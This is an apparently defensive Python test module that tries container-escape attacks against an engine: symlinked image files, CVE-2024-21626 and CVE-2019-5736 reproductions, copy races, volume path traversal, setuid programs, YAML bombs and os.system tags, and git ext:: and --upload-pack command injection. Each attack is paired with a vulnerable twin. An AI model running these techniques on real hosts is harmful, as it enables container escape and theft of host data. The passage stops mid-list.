"""Attacks by an image's configuration and root, by archives and copies, by volumes, stack files and repositories."""

from __future__ import annotations

import ctypes
import json
import os
import shutil
import subprocess
import tarfile
import textwrap
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager, suppress
from pathlib import Path

import yaml
from docker.types import LogConfig, Mount

from tests.conftest import eventually
from tests.escape import kit
from tests.escape.conftest import in_chroot
from tests.escape.ground import Content, Ground, shell
from tests.escape.kit import entry
from tests.escape.layers import folder, link
from tests.images import layout, tar_of

Attack = Callable[[Ground], str | None]
SLEEP = ["sleep", "1000"]
_libc = ctypes.CDLL(None, use_errno=True)


def environment(g: Ground) -> dict[str, str]:
    return {"FIELD": json.dumps(g.field.facts)}


def bundle(g: Ground, ident: str) -> Path:
    return g.field.root / "run/containers" / ident


# the root that an image brings: links where the engine, or the runtime, writes or mounts


def linked(name: str, target: str = "new", command: Sequence[str] = ("true",), **options: object) -> tuple[Attack, Attack]:
    """An image whose *name* is a link to *target* outside; and who opens *name* below a root, for writing."""

    def attack(g: Ground) -> str:
        above = name.rpartition("/")[0]
        entries = dict([*([folder(above)] if above else []), link(name, g.outside / target)])
        return g.load(entries) or g.run(list(command), **options)

    def twin(g: Ground) -> None:
        path = g.place / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(g.outside / target)
        path.write_text("evil")

    return attack, twin


def linked_folder(name: str, **options: object) -> tuple[Attack, Attack]:
    """An image whose *name* is a link to the folder outside; and who makes a file below it."""
    attack, _ = linked(name, "folder", **options)  # type: ignore[arg-type]

    def twin(g: Ground) -> None:
        path = g.place / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(g.outside / "folder")
        (path / "new").write_text("evil")

    return attack, twin


def passwd_link(g: Ground) -> str:
    """The host's file would make `evil` a user that there is."""
    (g.outside / "file").write_text("evil:x:4242:4242::/:/bin/sh\n")
    g._before = g._look()
    text = g.load(dict([link("etc/passwd", g.outside / "file")])) or g.run(["id", "-u"], user="evil")
    if "4242" in text:
        g.gains.append("a user of the host's file")
    return text


def passwd_link_followed(g: Ground) -> None:
    (g.place / "passwd").symlink_to(g.outside / "file")
    g.take((g.place / "passwd").read_text())


def passwd_fifo(g: Ground) -> str:
    return g.load(dict([entry("etc/passwd", type=tarfile.FIFOTYPE)])) or g.run(["true"], user="evil")


def passwd_fifo_opened(g: Ground) -> None:
    os.mkfifo(g.place / "passwd")
    with subprocess.Popen(["cat", str(g.place / "passwd")]) as reader:
        try:
            reader.wait(0.3)
        except subprocess.TimeoutExpired:
            g.gains.append("who opens it waits for ever")
        finally:
            reader.kill()


# an image's configuration


def working_directory(g: Ground) -> str:
    """WORKDIR that is a link to a descriptor of the runtime's, each that it may have (CVE-2024-21626)."""
    words = ["python3", "/inside.py", "working_directory_outside"]

    def run(number: int) -> str:
        one = Ground(g.field, g.client, g.base / f"fd{number}")
        return one.run(words, image="attacker", working_dir=f"/srv/fd{number}", environment=environment(g))

    with ThreadPoolExecutor(4) as pool:
        told = list(pool.map(run, kit.DESCRIPTORS))
    box = g.start(SLEEP)
    for number in kit.DESCRIPTORS:
        for path in (f"/srv/fd{number}", f"/proc/self/fd/{number}"):
            done = g.client.api.exec_create(box.id, words, workdir=path, environment=environment(g))
            told.append(g.client.api.exec_start(done["Id"]).decode(errors="replace"))
    for text in told:
        g.take(text)
    return "\n".join(told)


def working_directory_followed(g: Ground) -> None:
    g.take(in_chroot(g.field, g.place, ["working_directory_outside"], "/srv/fd7"))


def working_directory_of_image(g: Ground) -> str:
    text = g.load(dict([folder("srv")]), {"Cmd": ["true"], "WorkingDir": "/proc/self/fd/8"})
    return text or g.run()


def working_directory_long(g: Ground) -> str:
    return g.load(dict([folder("srv")]), {"Cmd": ["true"], "WorkingDir": "/x" * 3000}) or g.run()


def make_directories_by_recursion(g: Ground) -> None:
    def make(parts: Sequence[str]) -> None:
        if parts:
            make(parts[:-1])

    try:
        make(("/x" * 3000).split("/"))
    except RecursionError as error:
        g.gains.append(str(error))


def image_volume(path: str) -> Attack:
    """VOLUME *path*, after which /proc is another file system than the kernel's, if anything is gained."""

    def attack(g: Ground) -> str:
        config = {"Cmd": ["stat", "-f", "-c", "kind %T", "/proc"], "Volumes": {path: {}}}
        text = g.load(dict([link("srv/kernel", "/proc")]), config) or g.run()
        if "kind" in text and "kind proc" not in text:
            g.gains.append("/proc is a volume")
        return text

    return attack


def mount_at_link_of_volume(g: Ground) -> str:
    box = g.start(SLEEP, mounts=[Mount("/v", g.name, type="volume")])
    g.copy_in(box, "/v", kit.pack(dict([link("x", "/proc")])))
    g.remove()
    mounts = [Mount("/v", g.name, type="volume"), Mount("/v/x", None, type="tmpfs")]
    text = g.run(["stat", "-f", "-c", "kind %T", "/proc"], image="busybox", mounts=mounts)
    if "kind" in text and "kind proc" not in text:
        g.gains.append("/proc is a tmpfs")
    return text


def volume_over_proc_by_hand(g: Ground) -> None:
    """What a runtime does that mounts wherever it is told."""
    words = ("unshare", "-m", "sh", "-c", 'mount --bind "$1" /proc && stat -f -c "kind %T" /proc', "sh", str(g.place))
    text = shell(*words).stdout
    if "kind" in text and "kind proc" not in text:
        g.gains.append("/proc is a folder")


def volume_at_link(g: Ground) -> str:
    config = {"Cmd": ["sh", "-c", "echo evil > /data/new; ls /data"], "Volumes": {"/data": {}}}
    return g.load(dict([link("data", g.outside)]), config) or g.run()


def volume_at_link_followed(g: Ground) -> None:
    (g.place / "data").symlink_to(g.outside)
    words = (
        "unshare",
        "-m",
        "sh",
        "-c",
        'mount -t tmpfs tmpfs "$1"/data && mountpoint -q "$2" && echo mounted',
        "sh",
        str(g.place),
        str(g.outside),
    )
    if "mounted" in shell(*words).stdout:
        g.gains.append("the mount lies outside")


def hooks(g: Ground) -> str:
    """Programs for the runtime, wherever an image's documents have room for words."""
    program = {"path": "/bin/sh", "args": ["sh", "-c", f"touch {g.outside}/ran"]}
    order = {
        name: [program] for name in ("prestart", "createRuntime", "createContainer", "startContainer", "poststart", "poststop")
    }
    words = {f"run.oci.hooks.{name}": json.dumps(value) for name, value in order.items()}
    words |= {
        "run.oci.hooks.stdout": f"{g.outside}/ran",
        "run.oci.handler": "wasm",
        "run.oci.seccomp_bpf_data": "AAAA",
        "org.criu.config": f"{g.outside}/file",
    }
    config = {"Cmd": SLEEP, "Labels": words, "Annotations": words, "hooks": order, "Hooks": order}
    if text := g.load(dict([folder("srv")]), config):
        return text
    box = g.start(SLEEP, image=g.name)
    document = json.loads((bundle(g, box.id) / "config.json").read_bytes())
    found = [key for key in ("hooks", *words) if key in document or key in document.get("annotations", {})]
    g.gains += [f"{key} reaches the runtime" for key in found if key != "run.oci.seccomp_bpf_data"]
    if "AAAA" in document.get("annotations", {}).values():
        g.gains.append("the image brings its own seccomp program")
    return ""


def hooks_in_a_bundle(g: Ground) -> None:
    root = g.place / "rootfs"
    root.mkdir()
    shell(kit.program("tar"), "-xC", str(root), input=g.field.base.decode("latin-1"), encoding="latin-1")
    shell(kit.program("runc"), "spec", cwd=g.place)
    document = json.loads((g.place / "config.json").read_bytes())
    document["process"] |= {"terminal": False, "args": ["true"]}
    document["hooks"] = {"prestart": [{"path": "/bin/sh", "args": ["sh", "-c", f"touch {g.outside}/ran"]}]}
    (g.place / "config.json").write_text(json.dumps(document))
    shell(*g.field.enter(kit.program("runc"), "--root", str(g.place / "state"), "run", "-b", str(g.place), g.name))


def runtime_program(g: Ground) -> str:
    """A process in the container opens the program of the runtime that enters it, for writing (CVE-2019-5736)."""
    script = dict([entry("srv/evil", b"#!/proc/self/exe --version\n"), link("srv/exe", "/proc/self/exe")])
    box = g.start(["python3", "/inside.py", "--watch"])
    box.put_archive("/", kit.pack(script))
    for words in (["/srv/evil"], ["/srv/exe"], ["/proc/self/exe"], ["true"]) * 2:
        with suppress(Exception):
            box.exec_run(words)
        with suppress(Exception):
            box.exec_run(words, privileged=True)
    box.exec_run(["touch", "/tmp/stop"])
    box.wait()
    text = box.logs().decode()
    found = json.loads(text.splitlines()[-1])
    g.gains += [
        f"{where} can be written" for where, answer in found.items() if answer == "gained" and not where.startswith("/memfd:")
    ]
    return text


RUNTIME = """
import ctypes, json, os, sys
libc = ctypes.CDLL(None)
pid, keep = sys.argv[1], int(sys.argv[2], 16)
for kind, flag in (("mnt", 0x20000), ("pid", 0x20000000)):
    namespace = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
    if kind == "pid":
        libc.setns(namespace, flag)
    else:
        mounts = namespace
libc.setns(mounts, 0x20000)
if os.fork() == 0:
    for number in range(41):
        if not keep >> number & 1:
            libc.prctl(24, number, 0, 0, 0)
    os.execv("/proc/self/exe", ["evil", "-c", "import sys; sys.stdin.read()"])
os.wait()
"""
"""A runtime that is not careful: it enters a container as the program of the host that it is, and runs what it is told."""


def careless_runtime(g: Ground) -> None:
    program = g.outside / "runtime"
    shutil.copy(os.path.realpath(kit.PYTHON), program)
    g._before = g._look()
    box = g.start(["python3", "/inside.py", "--watch"])
    box.reload()
    pid = int(box.attrs["State"]["Pid"])
    status = shell(*g.field.enter("cat", f"/proc/{pid}/status")).stdout
    bounding = next(line.split()[1] for line in status.splitlines() if line.startswith("CapBnd"))
    words = g.field.enter(str(program), "-E", "-s", "-c", RUNTIME, str(pid), bounding)
    with subprocess.Popen(words, stdin=subprocess.PIPE) as runtime:
        assert runtime.stdin

        def seen() -> None:
            assert box.exec_run(["test", "-e", "/tmp/seen"]).exit_code == 0

        try:
            eventually(seen, 10)
        finally:
            runtime.stdin.close()
            runtime.wait(20)
    box.exec_run(["touch", "/tmp/stop"])
    box.wait()
    found = json.loads(box.logs().decode().splitlines()[-1])
    g.gains += [f"{where} can be written" for where, answer in found.items() if answer == "gained"]


# archives of images


def docker_archive(g: Ground, config: str, link_to: str = "") -> bytes:
    files: dict[str, bytes | str | None] = {
        "manifest.json": json.dumps([{"Config": config, "RepoTags": [f"{g.name}:latest"], "Layers": []}]).encode(),
    }
    if link_to:
        files[config] = link_to
    return tar_of(files)


def archive_link(g: Ground) -> str:
    return g.send(docker_archive(g, "config.json", str(g.outside / "file")))


def archive_path(g: Ground) -> str:
    return g.send(docker_archive(g, str(g.outside / "file")))


def read_unpacked(config: Callable[[Ground], str], link_to: Callable[[Ground], str]) -> Attack:
    def twin(g: Ground) -> None:
        g.unpack(docker_archive(g, config(g), link_to(g)))
        name = json.loads((g.place / "manifest.json").read_bytes())[0]["Config"]
        g.take((g.place / name).read_text())

    return twin


def wrong_digest(g: Ground, *, honest: bool = False) -> str:
    """A layer that is another than the manifest says, as a registry could send it."""
    files = layout([g.field.base, tar_of({"srv/evil": b"as it was"})], name=f"docker.io/library/{g.name}:latest", compress="")
    if not honest:
        for name, data in files.items():
            if b"srv/evil" in data:
                files[name] = data.replace(b"as it was", b"as it is.")
    text = g.send(tar_of(files))
    if not text and "evil" in g.run(["ls", "/srv"]).lower():
        g.gains.append("the layer is taken")
    return text


# copies into and out of a container


def copy_in_at_link(g: Ground) -> str:
    box = g.start(SLEEP)
    g.copy_in(box, "/srv", kit.pack(dict([link("out", g.outside)])))
    return g.copy_in(box, "/srv/out", tar_of({"new": b"evil"}))


def copy_in_at_link_followed(g: Ground) -> None:
    (g.place / "out").symlink_to(g.outside)
    (g.place / "out/new").write_text("evil")


def copy_in_archive(g: Ground) -> str:
    return g.copy_in(g.start(SLEEP), "/srv", kit.pack(dict([link("out", g.outside), entry("out/new", b"evil")])))


def copy_in_archive_unpacked(g: Ground) -> None:
    g.unpack(dict([link("out", g.outside), entry("out/new", b"evil")]))


def copy_out_link(g: Ground) -> str:
    box = g.start(SLEEP)
    g.copy_in(box, "/srv", kit.pack(dict([link("out", g.outside), link("one", g.outside / "file")])))
    return " ".join(g.copy_out(box, path) for path in ("/srv/out/file", "/srv/out/", "/srv/one", "/srv/one/."))


def copy_out_link_followed(g: Ground) -> None:
    (g.place / "one").symlink_to(g.outside / "file")
    g.take((g.place / "one").read_text())


def copy_out_proc(g: Ground) -> str:
    """By the links of /proc, which lead to files and not to names."""
    box = g.start(SLEEP)
    roots = ("/proc/self/root", "/proc/1/root", "/proc/self/cwd", "/proc/thread-self/root", "/proc/self/fd/0")
    return " ".join(g.copy_out(box, f"{root}{g.outside}/file") for root in roots)


def copy_out_proc_followed(g: Ground) -> None:
    g.take(Path(f"/proc/self/root{g.outside}/file").read_text())


FLIP = """
import ctypes, os, sys
libc = ctypes.CDLL(None)
a, b = (os.fsencode(word) for word in sys.argv[1:])
print("on", flush=True)
while True:
    libc.syscall(ctypes.c_long(%d), -100, a, -100, b, 2)
"""


def flipping(a: str, b: str) -> list[str]:
    """Words of a command that exchanges two names for ever, as fast as it can (renameat2, RENAME_EXCHANGE)."""
    return [kit.PYTHON, "-c", FLIP % {"x86_64": 316, "aarch64": 276}[os.uname().machine], a, b]


ROUNDS = 12
PATIENCE_S = 60.0


@contextmanager
def racing(g: Ground) -> Iterator[object]:
    """A container in which /srv/d is now a folder with a file, now a link out."""
    (g.outside / "folder/file").write_text(g.field.secret)
    g._before = g._look()
    box = g.start(["/usr/bin/python3", *flipping("/srv/d", "/srv/l")[1:]])
    entries = dict([folder("d"), entry("d/file", b"own"), link("l", g.outside / "folder")])
    g.copy_in(box, "/srv", kit.pack(entries))
    yield box


def copy_out_race(g: Ground) -> str:
    with racing(g) as box:
        return " ".join({g.copy_out(box, "/srv/d/file") for _ in range(ROUNDS)})  # type: ignore[arg-type]


def copy_in_race(g: Ground) -> str:
    with racing(g) as box:
        return " ".join({g.copy_in(box, "/srv/d", tar_of({"new": b"evil"})) for _ in range(ROUNDS)})  # type: ignore[arg-type]


@contextmanager
def racing_here(g: Ground) -> Iterator[Path]:
    (g.outside / "folder/file").write_text(g.field.secret)
    g._before = g._look()
    (g.place / "d").mkdir()
    (g.place / "d/file").write_text("own")
    (g.place / "l").symlink_to(g.outside / "folder")
    with subprocess.Popen(flipping(str(g.place / "d"), str(g.place / "l")), stdout=subprocess.PIPE) as flip:
        try:
            assert flip.stdout and flip.stdout.readline()
            yield g.place / "d"
        finally:
            flip.kill()


def copy_out_race_lost(g: Ground) -> None:
    """Who looks whether a path is inside, and opens it then."""
    with racing_here(g) as path:
        until = time.monotonic() + PATIENCE_S
        while not g.gains and time.monotonic() < until:
            with suppress(OSError):
                if not path.is_symlink():
                    g.take((path / "file").read_text())


def copy_in_race_lost(g: Ground) -> None:
    with racing_here(g) as path:
        until = time.monotonic() + PATIENCE_S
        while not (g.outside / "folder/new").exists() and time.monotonic() < until:
            with suppress(OSError):
                if not path.is_symlink():
                    (path / "new").write_text("evil")


def client_copy(g: Ground) -> str:
    """Two copies out, one after the other: the first brings a link, the second a folder of its name."""
    box = g.start(SLEEP)
    g.copy_in(box, "/srv", kit.pack(dict([folder("t"), link("t/d", g.outside)])))
    goal = str(g.place)
    first = g.field.pystack("container", "cp", f"{g.name}:/srv/t/.", goal, check=False)
    box.exec_run(["sh", "-c", "rm /srv/t/d && mkdir /srv/t/d && echo evil > /srv/t/d/new"])
    second = g.field.pystack("container", "cp", f"{g.name}:/srv/t/.", goal, check=False)
    return first.stderr + second.stderr


def client_copy_unpacked(g: Ground) -> None:
    g.unpack(dict([folder("t"), link("t/d", g.outside)]))
    g.unpack(dict([folder("t"), folder("t/d"), entry("t/d/new", b"evil")]))


# volumes


def volume_subpath(g: Ground) -> str:
    box = g.start(SLEEP, mounts=[Mount("/v", g.name, type="volume")])
    g.copy_in(box, "/v", kit.pack(dict([link("l", g.outside), link("up", "../" * 30 + str(g.outside).lstrip("/"))])))
    g.remove()
    told = []
    for name in ("l", "up", "../../../../../.." + str(g.outside)):
        volume = {"type": "volume", "source": "v", "target": "/x", "volume": {"subpath": name}}
        service = {"image": "busybox", "command": ["cat", "/x/file"], "volumes": [volume]}
        volumes = {"v": {"external": True, "name": g.name}}
        told.append(stack_file(g, json.dumps({"services": {"a": service}, "volumes": volumes}), "up", "-p", g.name))
        told.append(stack_file(g, "services: {}\n", "logs", "-p", g.name))
        g.field.pystack("down", "-p", g.name)
    return " ".join(told)


def volume_subpath_followed(g: Ground) -> None:
    (g.place / "l").symlink_to(g.outside)
    g.take((g.place / "l/file").read_text())


def volume_name(g: Ground) -> str:
    with suppress(Exception):
        g.client.volumes.create(f"../../../../../../..{g.outside}/new")
    with suppress(Exception):
        g.client.volumes.create(f"{g.outside}/new")
    return ""


def volume_name_joined(g: Ground) -> None:
    (g.field.root / "volumes" / f"../../../../../../..{g.outside}/new").mkdir()


def volume_filled(g: Ground) -> str:
    """The first filling of a volume copies a link as what it is."""
    config = {"Cmd": ["cat", "/data/l"], "Volumes": {"/data": {}}}
    text = g.load(dict([folder("data"), link("data/l", g.outside / "file")]), config) or g.run()
    g.take(text)
    for path in (g.field.root / "volumes").rglob("l"):
        if not path.is_symlink():
            g.take(path.read_text())
    return text


def volume_filled_through(g: Ground) -> None:
    (g.place / "data").mkdir()
    (g.place / "data/l").symlink_to(g.outside / "file")
    shutil.copytree(g.place / "data", g.place / "volume")
    g.take((g.place / "volume/l").read_text())


SUID = "import os; print('uid', os.geteuid())"
RUN = '"$0" -E -s -S -c "$1"'


def host_user_runs(g: Ground, paths: Sequence[Path]) -> None:
    """A user of the host without rights runs set-user-ID programs, whose paths it knows."""
    for path in paths:
        # by a shell: setpriv(1) itself finds its program with rights that it still has
        words = ("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "sh", "-c", RUN, str(path), SUID)
        if "uid 0" in shell(*g.field.enter(*words)).stdout:
            g.gains.append(f"{path} makes a user of the host root")


@contextmanager
def programs_of_root(g: Ground) -> Iterator[list[Path]]:
    """Paths on the host of set-user-ID programs: in a layer, in a container's root and its own layer, and in a volume."""
    box = g.start(SLEEP, mounts=[Mount("/v", g.name, type="volume")])
    box.exec_run(["sh", "-c", "for at in /root /v; do cp /srv/suid-python $at/evil; chmod 4755 $at/evil; done"])
    paths = [
        *(g.field.root / "layers").glob("*/srv/suid-python"),
        bundle(g, box.id) / "rootfs/srv/suid-python",
        g.field.root / "containers" / box.id / "upper/root/evil",
        *(g.field.root / "volumes" / g.name).glob("*/evil"),
    ]
    assert len(paths) == 4
    yield paths


def set_user_id(g: Ground) -> str:
    with programs_of_root(g) as paths:
        host_user_runs(g, paths)
    return ""


def set_user_id_in_the_open(g: Ground) -> None:
    with programs_of_root(g) as paths:
        above_all = {above for path in paths for above in path.parents if above.is_relative_to(g.field.root)}
        closed = {above: above.stat().st_mode for above in above_all if above.exists()}  # a root is mounted on the node alone
        try:
            for above in closed:
                above.chmod(0o755)
            host_user_runs(g, paths)
        finally:
            for above, mode in closed.items():
                above.chmod(mode)


# logs


def log_bomb(g: Ground, limit: str = "1m") -> str:
    size = 40_000_000
    words = ["sh", "-c", f"yes {'x' * 99} | head -c {size}; echo the end; sleep 1000"]
    box = g.start(words, image="busybox", log_config=LogConfig(config={"max-size": limit, "max-file": "2"}))

    def written() -> None:
        assert b"the end" in box.logs(tail=1)

    eventually(written, 30)
    kept = sum(path.stat().st_size for path in (g.field.root / "containers" / box.id).glob("log*"))
    if kept > size // 2:
        g.gains.append(f"{kept} bytes of log")
    return f"{kept} bytes of log"


# stack files and repositories


def stack_file(g: Ground, text: str, *words: str) -> str:
    (g.place / "stack.yml").write_text(text)
    done = g.field.pystack("-f", str(g.place / "stack.yml"), *words, check=False)
    g.take(done.stdout + done.stderr)
    return done.stdout + done.stderr


def tag(g: Ground) -> str:
    return f"services: !!python/object/apply:os.system ['touch {g.outside}/ran']\n"


def yaml_tag_run(g: Ground) -> None:
    yaml.unsafe_load(tag(g))


BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(9)
)


def yaml_bomb(g: Ground) -> str:
    service = "services: {a: {image: busybox, labels: {a: *j}}}\n"
    return stack_file(g, f"x-bomb:\n{textwrap.indent(BOMB, '  ')}{service}", "config")


def yaml_bomb_counted(g: Ground) -> None:
    count = dict.fromkeys("a", 9)
    loaded = yaml.safe_load(BOMB)
    for letter, above in zip("bcdefghij", "abcdefghi", strict=True):
        count[letter] = sum(count[above] for _ in loaded[letter])
    if count["j"] > 10**9:
        g.gains.append(f"{count['j']} words of {len(BOMB)} bytes")


def repository(g: Ground, files: Mapping[str, str]) -> Path:
    """A bare repository with one commit; text that begins with -> is a link."""
    copy, bare = g.place / "copy", g.place / "origin.git"
    shell("git", "init", "-q", "-b", "main", "--bare", str(bare))
    shell("git", "init", "-q", "-b", "main", str(copy))
    for name, text in files.items():
        path = copy / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(text[2:]) if text.startswith("->") else path.write_text(text)
    shell("git", "add", "-A", cwd=copy)
    shell("git", "-c", "user.name=Eve", "-c", "user.email=eve@example.org", "commit", "-q", "-m", "evil", cwd=copy)
    shell("git", "push", "-q", str(bare), "HEAD:main", cwd=copy)
    return bare


def follow(g: Ground, url: str) -> str:
    """What it says to follow that repository; what a container is told by it is looked at."""
    done = g.field.pystack("gitops", "add", url, "--name", g.name, "--interval", "1h", check=False)
    try:
        g.take(done.stdout + done.stderr)
        for row in json.loads(g.field.pystack("ps", "-p", g.name, "--format", "json", check=False).stdout or "[]"):
            inside = g.field.pystack("exec", "-p", g.name, "-T", str(row["service"]), "sh", "-c", "cat /text; env", check=False)
            g.take(inside.stdout)
    finally:
        g.field.pystack("gitops", "rm", g.name, check=False)
        g.field.pystack("down", "-p", g.name, "-v", check=False)
    return done.stdout + done.stderr


SERVICE = "services: {web: {image: busybox, command: [sleep, '1000'], stop_signal: SIGKILL, %s}}\n"
CONFIG = SERVICE % "configs: [text]" + "configs: {text: {file: ./text}}\n"


def repository_link(g: Ground) -> str:
    return follow(g, str(repository(g, {"compose.yml": CONFIG, "text": f"->{g.outside}/file"})))


def repository_link_followed(g: Ground) -> None:
    bare = repository(g, {"text": f"->{g.outside}/file"})
    shell("git", "clone", "-q", str(bare), str(g.place / "clone"))
    g.take((g.place / "clone/text").read_text())


def repository_path(g: Ground) -> str:
    return follow(g, str(repository(g, {"compose.yml": CONFIG.replace("./text", f"{'../' * 30}{str(g.outside)[1:]}/file")})))


def repository_path_followed(g: Ground) -> None:
    bare = repository(g, {"path": f"{'../' * 30}{str(g.outside)[1:]}/file"})
    shell("git", "clone", "-q", str(bare), str(g.place / "clone"))
    g.take((g.place / "clone" / (g.place / "clone/path").read_text()).read_text())


def repository_environment(g: Ground) -> str:
    """`${NAME}` of the server's environment, which has a secret."""
    return follow(g, str(repository(g, {"compose.yml": SERVICE % "environment: ['A=${ESCAPE_SECRET:-none}', ESCAPE_SECRET]"})))


def environment_interpolated(g: Ground) -> None:
    (g.place / "stack.yml").write_text(SERVICE % "environment: ['A=${ESCAPE_SECRET}']")
    lines = shell("env", f"ESCAPE_SECRET={g.field.secret}", *_pystack(), "-f", str(g.place / "stack.yml"), "config")
    g.take(lines.stdout)


def _pystack() -> list[str]:
    import sys

    return [sys.executable, "-m", "orchestrator"]


def repository_program(g: Ground) -> str:
    """An address of git's that names a program to run."""
    return follow(g, f"ext::sh -c touch% {g.outside}/ran")


def repository_program_run(g: Ground) -> None:
    shell("git", "-c", "protocol.ext.allow=always", "clone", "-q", f"ext::sh -c touch% {g.outside}/ran", str(g.place / "clone"))


def repository_option(g: Ground) -> str:
    """An address that is an option of git's."""
    words = ("gitops", "add", "--name", g.name, "--interval", "1h", "--branch", "main", "--")
    done = g.field.pystack(*words, f"--upload-pack=touch {g.outside}/ran;", check=False)
    g.field.pystack("gitops", "rm", g.name, check=False)
    return done.stdout + done.stderr


def repository_option_taken(g: Ground) -> None:
    shell("git", "ls-remote", f"--upload-pack=touch {g.outside}/ran;", str(repository(g, {"a": "b"})))


LOOKED = "looked up below the root by the kernel"
ROWS = (
    Content("root_hosts_link", "/etc/hosts is a link out", LOOKED, "opened by its path", *linked("etc/hosts")),
    Content("root_hostname_link", "/etc/hostname is a link out", LOOKED, "opened by its path", *linked("etc/hostname")),
    Content("root_resolv_link", "/etc/resolv.conf is a link out", LOOKED, "opened by its path", *linked("etc/resolv.conf")),
    Content(
        "root_etc_link", "/etc is a link out", "refused", "opened by its path", *linked_folder("etc"), "is a symbolic link"
    ),
    Content(
        "root_proc_link", "/proc is a link out", "refused", "opened by its path", *linked_folder("proc"), "is a symbolic link"
    ),
    Content(
        "root_sys_link", "/sys is a link out", "refused", "opened by its path", *linked_folder("sys"), "is a symbolic link"
    ),
    Content(
        "root_dev_link", "/dev is a link out", "refused", "opened by its path", *linked_folder("dev"), "is a symbolic link"
    ),
    Content(
        "root_run_link",
        "/run, which secrets are mounted below, is a link out",
        LOOKED,
        "opened by its path",
        *linked_folder("run", tmpfs={"/run/secrets": ""}),
    ),
    Content(
        "root_workdir_link",
        "the working directory lies behind a link out",
        LOOKED,
        "opened by its path",
        *linked_folder("work", working_dir="/work/new"),
    ),
    Content(
        "root_tmpfs_link",
        "the place of a tmpfs is a link out",
        LOOKED,
        "opened by its path",
        *linked_folder("data", command=["touch", "/data/new"], tmpfs={"/data": ""}),
    ),
    Content(
        "root_passwd_link",
        "/etc/passwd is a link to a file of the host",
        LOOKED,
        "opened by its path",
        passwd_link,
        passwd_link_followed,
        "is not in the image's /etc/passwd",
    ),
    Content(
        "root_passwd_fifo",
        "/etc/passwd is a FIFO that nobody writes",
        "only regular files are read",
        "opened by its path",
        passwd_fifo,
        passwd_fifo_opened,
        "cannot be read",
    ),
    Content(
        "config_workdir_descriptor",
        "WORKDIR or exec's directory is a descriptor of the runtime's (CVE-2024-21626)",
        "closed before anything runs; checked by the runtime",
        "a runtime that leaves a descriptor open",
        working_directory,
        working_directory_followed,
    ),
    Content(
        "config_workdir_proc",
        "WORKDIR /proc/self/fd/8",
        "refused",
        "a runtime that leaves a descriptor open",
        working_directory_of_image,
        working_directory_followed,
        "must be an absolute path outside /proc",
    ),
    Content(
        "config_workdir_long",
        "WORKDIR of 3,000 parts",
        "bounds of a path",
        "made by recursion",
        working_directory_long,
        make_directories_by_recursion,
        "directories deep",
    ),
    Content(
        "config_volume_proc",
        "VOLUME /proc: what writes security labels there writes to a file (CVE-2019-16884)",
        "refused",
        "mounted as it is told",
        image_volume("/proc"),
        volume_over_proc_by_hand,
        "/proc",
    ),
    Content(
        "config_volume_proc_link",
        "VOLUME at a link to /proc",
        "refused",
        "mounted as it is told",
        image_volume("/srv/kernel"),
        volume_over_proc_by_hand,
        "/proc",
    ),
    Content(
        "runtime_mount_swapped",
        "a link in a volume, to /proc, is the place of another mount (CVE-2023-27561)",
        "refused",
        "mounted as it is told",
        mount_at_link_of_volume,
        volume_over_proc_by_hand,
    ),
    Content(
        "config_volume_link",
        "VOLUME at a link out (CVE-2021-30465)",
        LOOKED,
        "mounted as it is told",
        volume_at_link,
        volume_at_link_followed,
    ),
    Content(
        "config_hooks",
        "hooks and annotations of runtimes in labels and documents of the image",
        "config.json has nothing of an image but what is known",
        "a hook in config.json",
        hooks,
        hooks_in_a_bundle,
    ),
    Content(
        "runtime_program",
        "the program of the runtime is opened for writing through /proc/PID/exe (CVE-2019-5736)",
        "the runtime runs from a sealed copy",
        "a runtime that does not",
        runtime_program,
        careless_runtime,
    ),
    Content(
        "archive_link",
        "the config of an archive is a link to a file of the host",
        "names are members of the archive alone",
        "unpacked, then opened",
        archive_link,
        read_unpacked(lambda g: "config.json", lambda g: str(g.outside / "file")),
        "lacks",
    ),
    Content(
        "archive_path",
        "the config of an archive is a path of the host",
        "names are members of the archive alone",
        "unpacked, then opened",
        archive_path,
        read_unpacked(lambda g: str(g.outside / "file"), lambda g: ""),
        "lacks",
    ),
    Content(
        "archive_digest",
        "a layer is another than the manifest says",
        "digests are checked",
        "the digest is right",
        wrong_digest,
        lambda g: wrong_digest(g, honest=True),
        "digest",
    ),
    Content(
        "copy_in_at_link",
        "cp to a path that is a link out",
        LOOKED,
        "opened by its path",
        copy_in_at_link,
        copy_in_at_link_followed,
    ),
    Content(
        "copy_in_archive",
        "an archive with a link out, and a file behind it",
        LOOKED,
        "tarfile without a filter",
        copy_in_archive,
        copy_in_archive_unpacked,
    ),
    Content(
        "copy_out_link",
        "cp of a link to a file of the host",
        LOOKED,
        "opened by its path",
        copy_out_link,
        copy_out_link_followed,
        "does not exist in the container",
    ),
    Content(
        "copy_out_proc",
        "cp by links of /proc",
        "magic links are not followed",
        "opened by its path",
        copy_out_proc,
        copy_out_proc_followed,
    ),
    Content(
        "copy_out_race",
        "cp out while a folder and a link change places (CVE-2018-15664)",
        LOOKED,
        "looked at, then opened",
        copy_out_race,
        copy_out_race_lost,
    ),
    Content(
        "copy_in_race",
        "cp in while a folder and a link change places (CVE-2018-15664)",
        LOOKED,
        "looked at, then opened",
        copy_in_race,
        copy_in_race_lost,
    ),
    Content(
        "client_copy",
        "cp twice: the first brings a link, the second writes behind it",
        "no link is followed",
        "tarfile without a filter",
        client_copy,
        client_copy_unpacked,
    ),
    Content(
        "volume_subpath", "subpath is a link out, or ../", LOOKED, "opened by its path", volume_subpath, volume_subpath_followed
    ),
    Content(
        "volume_name",
        "a volume's name is a path",
        "names are checked",
        "joined to the folder of volumes",
        volume_name,
        volume_name_joined,
    ),
    Content(
        "volume_filled",
        "a link in what a volume is first filled with",
        "links are copied as links",
        "copied by what they lead to",
        volume_filled,
        volume_filled_through,
    ),
    Content(
        "set_user_id",
        "a user of the host runs a set-user-ID program of a layer, container or volume (CVE-2021-41091)",
        "their folders are closed to other users",
        "folders open to all",
        set_user_id,
        set_user_id_in_the_open,
    ),
    Content("log_bomb", "log without end", "max-size and max-file", "a larger limit", log_bomb, lambda g: log_bomb(g, "100m")),
